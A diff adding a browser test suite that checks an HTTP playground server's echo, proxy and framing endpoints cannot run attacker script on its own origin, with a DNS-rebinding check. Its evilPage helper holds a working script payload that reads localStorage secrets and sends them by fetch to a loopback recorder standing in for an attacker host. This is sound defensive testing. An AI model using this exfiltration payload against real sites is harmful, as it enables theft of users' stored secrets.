@@ -1,0 +1,237 @@
+// The companion server's origin in real Chromium: a page that reads localStorage and reports it
+// to a loopback recorder runs when served by an ordinary site (the positive control), and never
+// runs when a browser is sent to it through the server: /echo/response-headers with
+// Content-Type=text/html, /echo/base64/<page>, /proxy?url=<page> (refused as a navigation),
+// or framed by another site. Each attempt is fenced by a control page whose report must
+// arrive first, so "nothing was reported" is checked against a recorder shown to work.
+// Everything on 127.0.0.1.
+import { test, before, after } from "node:test";
+import assert from "node:assert/strict";
+import { spawn } from "node:child_process";
+import { createServer } from "node:http";
+import { existsSync } from "node:fs";
+import { fileURLToPath } from "node:url";
+import { dirname, join } from "node:path";
+
+import { launch } from "./browser.mjs";
+import { freePort } from "./static-server.mjs";
+
+const HERE = dirname(fileURLToPath(import.meta.url));
+const SERVER = process.env.SERVER_BIN || join(HERE, "..", "target", "debug", "http-playground-server");
+const SECRET = "s3cret-in-the-app-origin";
+
+let server, browser, recorder, attacker, app;
+
+/** Records every request it gets; `next(mark)` resolves when one carrying `from=mark` arrives. */
+function startRecorder() {
+  const hits = [];
+  const waiting = [];
+  const http = createServer((req, res) => {
+    const url = new URL(req.url, "http://x");
+    const hit = { path: url.pathname, from: url.searchParams.get("from"), v: url.searchParams.get("v") };
+    hits.push(hit);
+    for (const w of waiting.filter((w) => w.mark === hit.from)) w.resolve(hit);
+    res.writeHead(204, { "access-control-allow-origin": "*" });
+    res.end();
+  });
+  return new Promise((resolve) => {
+    http.listen(0, "127.0.0.1", () => {
+      const url = `http://127.0.0.1:${http.address().port}`;
+      resolve({
+        url,
+        hits,
+        next(mark, ms = 15000) {
+          const seen = hits.find((h) => h.from === mark);
+          if (seen) return Promise.resolve(seen);
+          return new Promise((resolve, reject) => {
+            const timer = setTimeout(() => reject(new Error(`no report from ${mark} within ${ms} ms`)), ms);
+            waiting.push({ mark, resolve: (h) => (clearTimeout(timer), resolve(h)) });
+          });
+        },
+        close: () => new Promise((r) => http.close(r)),
+      });
+    });
+  });
+}
+
+/** The page an attacker wants to run on the app's origin: no double quotes or backslashes, so
+ * it survives inside the echo's JSON. It sets the title, reads localStorage and reports. */
+function evilPage(mark) {
+  return (
+    `<!doctype html><title>evil</title><script>document.title='ran';` +
+    `var v;try{v=localStorage.getItem('secret')}catch(e){v='blocked:'+e.name}` +
+    `fetch('${recorder.url}/hit?from=${mark}&v='+encodeURIComponent(v),{mode:'no-cors',keepalive:true});` +
+    `</script><img src=${recorder.url}/img?from=${mark}-img>`
+  );
+}
+
+/** Another website on loopback: /page?mark= serves the evil page; /frame?src= frames a URL. */
+function startAttacker() {
+  const http = createServer((req, res) => {
+    const url = new URL(req.url, "http://x");
+    if (url.pathname === "/page") {
+      res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
+      res.end(evilPage(url.searchParams.get("mark")));
+    } else if (url.pathname === "/frame") {
+      res.writeHead(200, { "content-type": "text/html; charset=utf-8" });
+      const src = url.searchParams.get("src").replace(/"/g, "&quot;");
+      res.end(`<!doctype html><title>framer</title><iframe src="${src}"></iframe>`);
+    } else {
+      res.writeHead(404);
+      res.end();
+    }
+  });
+  return new Promise((resolve) => {
+    http.listen(0, "127.0.0.1", () => {
+      resolve({ url: `http://127.0.0.1:${http.address().port}`, close: () => new Promise((r) => http.close(r)) });
+    });
+  });
+}
+
+async function waitFor(url) {
+  for (let i = 0; i < 200; i++) {
+    try {
+      await fetch(url);
+      return;
+    } catch {
+      await new Promise((r) => setTimeout(r, 100));
+    }
+  }
+  throw new Error(`nothing answered at ${url}`);
+}
+
+before(async () => {
+  recorder = await startRecorder();
+  attacker = await startAttacker();
+  const port = await freePort();
+  app = `http://127.0.0.1:${port}`;
+  const dist = join(HERE, "..", "dist");
+  const args = ["--port", String(port), "--dist", existsSync(dist) ? dist : "/nonexistent"];
+  args.push("--proxy", "--proxy-allow", "127.0.0.1", "--proxy-allow-loopback");
+  server = spawn(SERVER, args, { stdio: "ignore" });
+  await waitFor(`${app}/echo/get`);
+  browser = await launch();
+});
+
+after(async () => {
+  await browser?.close();
+  server?.kill();
+  await recorder?.close();
+  await attacker?.close();
+});
+
+/** A page of the app's origin that is not an echo answer (the app itself, or its 404), with the
+ * secret in that origin's localStorage. */
+async function appPageWithSecret() {
+  const page = await browser.newPage();
+  await page.goto(`${app}/not-an-echo-page`);
+  await page.evaluate((s) => localStorage.setItem("secret", s), SECRET);
+  assert.equal(await page.evaluate(() => localStorage.getItem("secret")), SECRET);
+  return page;
+}
+
+let controls = 0;
+/** Loads the evil page from the attacker's own origin (where it may run) and waits for its
+ * report: proves the page, the browser and the recorder work, and fences earlier attempts. */
+async function control(page) {
+  const mark = `control-${++controls}`;
+  await page.goto(`${attacker.url}/page?mark=${mark}`);
+  const hit = await recorder.next(mark);
+  // Read without an error ("blocked:…" otherwise); the attacker's own origin holds no secret.
+  assert.equal(hit.v, "null");
+  assert.equal(await page.title(), "ran");
+}
+
+function assertNothingFrom(mark) {
+  const hits = recorder.hits.filter((h) => h.from && h.from.startsWith(mark));
+  assert.deepEqual(hits, [], `the page sent ${JSON.stringify(hits)}`);
+}
+
+test("the evil page runs and reports on an ordinary site (the positive control)", async () => {
+  const page = await appPageWithSecret();
+  await control(page);
+  await page.close();
+});
+
+test("/echo/response-headers?Content-Type=text/html with a script in the query runs nothing", async () => {
+  const page = await appPageWithSecret();
+  const mark = "response-headers";
+  const url = `${app}/echo/response-headers?Content-Type=text/html&x=${encodeURIComponent(evilPage(mark))}`;
+  const response = await page.goto(url);
+  assert.equal(response.status(), 200);
+  assert.equal(response.headers()["content-type"], "text/html");
+  assert.equal(response.headers()["content-security-policy"], "sandbox; default-src 'none'");
+  assert.notEqual(await page.title(), "ran");
+  await control(page);
+  assertNothingFrom(mark);
+  // Nor can it set a cookie or clear the app's storage through the same endpoint.
+  for (const header of ["Set-Cookie=s%3D1", "Clear-Site-Data=%22*%22", "Refresh=0"]) {
+    const refused = await page.goto(`${app}/echo/response-headers?${header}`);
+    assert.equal(refused.status(), 400, header);
+  }
+  const back = await appPageWithSecret();
+  assert.deepEqual(await back.context().cookies(app), []);
+  await back.close();
+  await page.close();
+});
+
+test("/echo/base64/<an html page with a script> runs nothing", async () => {
+  const page = await appPageWithSecret();
+  const mark = "base64";
+  const encoded = Buffer.from(evilPage(mark)).toString("base64url");
+  const response = await page.goto(`${app}/echo/base64/${encoded}`);
+  assert.equal(response.status(), 200);
+  assert.match(response.headers()["content-type"], /^text\/html/);
+  assert.equal(response.headers()["content-security-policy"], "sandbox; default-src 'none'");
+  assert.notEqual(await page.title(), "ran");
+  await control(page);
+  assertNothingFrom(mark);
+  await page.close();
+});
+
+test("/proxy?url=<a page with a script> is refused as a navigation and runs nothing", async () => {
+  const page = await appPageWithSecret();
+  const mark = "proxy";
+  const target = `${attacker.url}/page?mark=${mark}`;
+  const response = await page.goto(`${app}/proxy?url=${encodeURIComponent(target)}`);
+  assert.equal(response.status(), 403);
+  assert.match(await response.text(), /^proxy: the proxy does not answer page navigations/);
+  assert.notEqual(await page.title(), "ran");
+  await control(page);
+  assertNothingFrom(mark);
+  // The app's own fetch() still goes through, Content-Type and all.
+  const app2 = await appPageWithSecret();
+  const fetched = await app2.evaluate(async (url) => {
+    const r = await fetch(url);
+    return { status: r.status, type: r.headers.get("content-type"), text: await r.text() };
+  }, `${app}/proxy?url=${encodeURIComponent(`${attacker.url}/page?mark=fetched`)}`);
+  assert.equal(fetched.status, 200);
+  assert.match(fetched.type, /^text\/html/);
+  assert.match(fetched.text, /document\.title='ran'/);
+  assertNothingFrom("fetched");
+  await app2.close();
+  await page.close();
+});
+
+test("another site framing the echo API runs nothing on the app's origin", async () => {
+  const page = await appPageWithSecret();
+  const mark = "framed";
+  const echo = `${app}/echo/response-headers?Content-Type=text/html&x=${encodeURIComponent(evilPage(mark))}`;
+  await page.goto(`${attacker.url}/frame?src=${encodeURIComponent(echo)}`);
+  const frame = page.frames().find((f) => f.url().startsWith(`${app}/echo/`));
+  assert.ok(frame, "the frame loaded");
+  await frame.waitForLoadState("load");
+  await control(page);
+  assertNothingFrom(mark);
+  await page.close();
+});
+
+test("a page reached under another name (DNS rebinding) gets 421, not the app's origin", async () => {
+  // Chromium resolves *.localhost to loopback, like a rebound name would.
+  const port = new URL(app).port;
+  const page = await browser.newPage();
+  const response = await page.goto(`http://rebound.localhost:${port}/echo/get`);
+  assert.equal(response.status(), 421);
+  assert.match(await response.text(), /is not a name of this server/);
+  await page.close();
+});
